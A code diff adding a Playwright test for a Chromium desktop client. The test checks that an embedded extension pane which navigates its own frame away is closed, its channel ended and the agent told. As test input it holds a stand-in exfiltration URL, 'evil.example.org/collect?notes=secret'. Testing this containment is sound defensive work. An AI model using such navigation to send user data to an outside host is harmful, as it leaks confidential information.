@@ -342,6 +342,45 @@ describe('desktop in Chromium, through Kamailio', () => {
     crm.terminate();
     echo.terminate();
   });
+
+  it('closes a pane whose page leaves it (to an https URL, to a data: URL), tells the agent and ends its channel', async () => {
+    const conversation = 'conv-escape';
+    const crm = lab.channel(AGENT, conversation);
+    const echo = lab.channel(AGENT, conversation);
+    const first = crm.establish(CRM, { applicationName: 'CRM context', contextualData: JSON.stringify({ name: 'Alan Turing' }) });
+    await page.getByRole('alertdialog', { name: 'Channel request' }).getByRole('button', { name: 'Accept' }).click();
+    await expect(first).resolves.toMatchObject({ ok: true });
+    const second = echo.establish(ECHO, { applicationName: 'Echo', contextualData: 'ping' });
+    await page.getByRole('alertdialog', { name: 'Channel request' }).getByRole('button', { name: 'Accept' }).click();
+    await expect(second).resolves.toMatchObject({ ok: true });
+    const area = page.locator(`[data-conversation="${conversation}"]`);
+    await area.getByRole('tab', { name: 'CRM context' }).click();
+    await paneFrame(page, 'CRM context').locator('#customer', { hasText: 'Alan Turing' }).waitFor({ timeout: 10_000 });
+
+    // A hostile page navigates its own frame (what no CSP directive in Chromium prevents).
+    const leave = async (name: string, target: string): Promise<void> => {
+      const frame = await frameOf(page, name);
+      await frame.evaluate((to) => {
+        window.location.href = to;
+      }, target).catch(() => undefined);
+    };
+    await leave('CRM context', 'https://evil.example.org/collect?notes=secret');
+    const crmGone = area.locator(`[data-pane-ejected="${CRM}"]`);
+    await crmGone.waitFor({ timeout: 10_000 });
+    await expect(crmGone.textContent()).resolves.toBe('CRM context tried to leave its pane and was closed.');
+    expect(await area.locator('iframe[title="CRM context pane"]').count()).toBe(0);
+    await waitFor(() => crm.state === 'Terminated', 10_000, 'the channel of the ejected pane closed by the agent');
+    await waitFor(() => host.stderrLines.some((l) => l.includes('tried to leave its page') && l.includes(CRM)), 5000, 'the host log line naming the extension');
+    await page.locator('[data-notice="general"]', { hasText: 'CRM context tried to leave its pane and was closed' }).first().waitFor({ timeout: 5000 });
+    await area.screenshot({ path: screenshotPath('pane-ejected') });
+
+    await area.getByRole('tab', { name: 'Echo' }).click();
+    await paneFrame(page, 'Echo').locator('body').waitFor({ timeout: 10_000 });
+    await leave('Echo', 'data:text/html,<p>not the pane</p>');
+    await area.locator(`[data-pane-ejected="${ECHO}"]`, { hasText: 'Echo tried to leave its pane and was closed.' }).waitFor({ timeout: 10_000 });
+    expect(await area.locator('iframe[title="Echo pane"]').count()).toBe(0);
+    await waitFor(() => echo.state === 'Terminated', 10_000, 'the second ejected channel closed');
+  });
 });
 
 describe('desktop in Chromium, embedded lab (no account configured)', () => {
